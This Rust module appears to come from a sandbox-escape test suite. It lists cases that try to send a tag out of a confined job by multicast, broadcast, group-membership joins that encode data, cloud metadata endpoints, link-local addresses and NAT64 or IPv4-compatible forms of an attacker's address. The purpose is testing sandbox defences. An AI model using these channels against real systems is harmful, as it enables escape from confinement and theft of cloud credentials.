//! Places that look as if they were nobody's: groups, broadcast, metadata services, link-local.

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};
use std::thread::sleep;
use std::time::Duration;

use nix::errno::Errno;

use crate::escape::case::{Case, Refused, Targets};
use crate::escape::sys;
use crate::harness::network::at;

type Result = std::result::Result<(), Refused>;

/// The attacker's link-local address.
pub const EVIL_LINK_LOCAL: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0x66);

pub(super) const CASES: &[Case] = &[
    Case::new(
        "multicast-v4",
        &["G29"],
        "Datagram to a multicast group, IPv4.",
        |targets| datagram(targets.at(group_v4(targets)), targets),
    ),
    Case::new(
        "multicast-v6",
        &["G29", "P48"],
        "Datagram to a multicast group of the link, IPv6.",
        |targets| {
            let group = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
            let scope = sys::interface("evil")?;
            datagram(
                SocketAddrV6::new(group, targets.port(), 0, scope).into(),
                targets,
            )
        },
    ),
    Case::new(
        "broadcast",
        &["G29"],
        "Datagram to 255.255.255.255.",
        |targets| broadcast(targets.at(Ipv4Addr::BROADCAST), targets),
    ),
    Case::new(
        "join-igmp",
        &["G29"],
        "IP_ADD_MEMBERSHIP: the kernel itself reports the group, whose number is the message.",
        |targets| {
            let mut request = group_v4(targets).octets().to_vec();
            request.extend([0; 4]);
            request.extend(sys::interface("evil")?.to_ne_bytes());
            join(
                libc::AF_INET,
                libc::IPPROTO_IP,
                libc::IP_ADD_MEMBERSHIP,
                &request,
            )
        },
    )
    .lingering(),
    Case::new(
        "join-igmp-source",
        &["G29"],
        "IP_ADD_SOURCE_MEMBERSHIP: group and source are the message.",
        |targets| {
            let mut request = group_v4(targets).octets().to_vec();
            request.extend(crate::harness::network::JOB_V4.octets());
            request.extend([10, 0, 0, 1]);
            let option = libc::IP_ADD_SOURCE_MEMBERSHIP;
            join(libc::AF_INET, libc::IPPROTO_IP, option, &request)
        },
    )
    .lingering(),
    Case::new(
        "join-mld",
        &["G29"],
        "IPV6_ADD_MEMBERSHIP: the kernel itself reports the group, 112 bits of message.",
        |targets| {
            let mut request = group_v6(targets).octets().to_vec();
            request.extend(sys::interface("evil")?.to_ne_bytes());
            let option = libc::IPV6_ADD_MEMBERSHIP;
            join(libc::AF_INET6, libc::IPPROTO_IPV6, option, &request)
        },
    )
    .lingering(),
    Case::new(
        "join-mcast-group",
        &["G29"],
        "MCAST_JOIN_GROUP: the same by the call that knows no family.",
        |targets| {
            const MCAST_JOIN_GROUP: i32 = 42;
            let mut request = u64::from(sys::interface("evil")?).to_ne_bytes().to_vec();
            request.extend(sys::address(at(group_v6(targets), 0)));
            request.resize(8 + 128, 0);
            join(
                libc::AF_INET6,
                libc::IPPROTO_IPV6,
                MCAST_JOIN_GROUP,
                &request,
            )
        },
    )
    .lingering(),
    Case::new(
        "join-anycast",
        &["G29"],
        "IPV6_JOIN_ANYCAST: an address joined, and reported as a group.",
        |targets| {
            const IPV6_JOIN_ANYCAST: i32 = 27;
            let mut request = Ipv6Addr::from_bits(
                Ipv6Addr::new(0x2001, 0xdb8, 0xa5, 0, 0, 0, 0, 0).to_bits()
                    | u128::from(targets.number),
            )
            .octets()
            .to_vec();
            request.extend(sys::interface("evil")?.to_ne_bytes());
            join(
                libc::AF_INET6,
                libc::IPPROTO_IPV6,
                IPV6_JOIN_ANYCAST,
                &request,
            )
        },
    )
    .lingering(),
    Case::new(
        "metadata-v4",
        &["G21", "P07"],
        "The metadata service of clouds, 169.254.169.254.",
        |targets| connect(at(Ipv4Addr::new(169, 254, 169, 254), 80), targets),
    ),
    Case::new(
        "metadata-v6",
        &["G21"],
        "The metadata service of clouds, fd00:ec2::254.",
        |targets| {
            connect(
                at(Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254), 80),
                targets,
            )
        },
    ),
    Case::new(
        "metadata-wireserver",
        &["G21"],
        "The host service of a cloud that has a public address, 168.63.129.16.",
        |targets| connect(at(Ipv4Addr::new(168, 63, 129, 16), 80), targets),
    ),
    Case::new(
        "private-range",
        &["P07"],
        "An address of a private range.",
        |targets| connect(targets.at(Ipv4Addr::new(10, 77, 0, 1)), targets),
    ),
    Case::new(
        "link-local-v6",
        &["G29"],
        "A link-local address with its device, IPv6.",
        |targets| {
            let scope = sys::interface("evil")?;
            datagram(
                SocketAddrV6::new(EVIL_LINK_LOCAL, targets.port(), 0, scope).into(),
                targets,
            )
        },
    ),
    Case::new("link-local-v6-tcp", &["G29"], "The same, TCP.", |targets| {
        let scope = sys::interface("evil")?;
        connect(
            SocketAddrV6::new(EVIL_LINK_LOCAL, targets.port(), 0, scope).into(),
            targets,
        )
    }),
    Case::new(
        "nat64-prefix",
        &["P20", "P21"],
        "The attacker's IPv4 address in the NAT64 prefix.",
        |targets| {
            let address = Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0xc633, 0x6442);
            datagram(targets.at(address), targets)
        },
    ),
    Case::new(
        "v4-compatible",
        &["G03", "P20"],
        "The attacker's IPv4 address as an IPv4-compatible one (`::a.b.c.d`).",
        |targets| {
            let address = Ipv6Addr::new(0, 0, 0, 0, 0, 0, 0xc633, 0x6442);
            datagram(targets.at(address), targets)
        },
    ),
];

/// The multicast groups of a case carry its number.
fn group_v4(targets: &Targets) -> Ipv4Addr {
    let [high, low] = targets.number.to_be_bytes();
    Ipv4Addr::new(239, 77, high, low)
}

fn group_v6(targets: &Targets) -> Ipv6Addr {
    let mut bytes = [0; 16];
    let number = targets.number.to_be_bytes();
    let parts = [0xff, 0x15, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x4d];
    bytes
        .iter_mut()
        .zip(parts.into_iter().chain(number))
        .for_each(|(to, byte)| *to = byte);
    Ipv6Addr::from(bytes)
}

fn family(to: SocketAddr) -> i32 {
    if to.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    }
}

fn datagram(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(family(to), libc::SOCK_DGRAM, 0)?;
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &sys::address(to)).map(drop)
}

pub(super) fn broadcast(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    sys::set_int(&socket, libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &sys::address(to)).map(drop)
}

/// Connects from the case's own port, so that a handshake without data is known as well.
fn connect(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(family(to), libc::SOCK_STREAM, 0)?;
    sys::from_own_port(&socket, targets.port())?;
    match sys::connect(&socket, &sys::address(to)) {
        // Nobody listens there, which was answered: the packet had arrived.
        Err(Refused {
            errno: Errno::ECONNREFUSED,
            ..
        }) => Ok(()),
        other => other,
    }
}

fn join(family: i32, level: i32, option: i32, request: &[u8]) -> Result {
    let socket = sys::socket(family, libc::SOCK_DGRAM, 0)?;
    sys::set(&socket, level, option, request)?;
    // The report is sent by a timer.
    sleep(Duration::from_millis(100));
    Ok(())
}
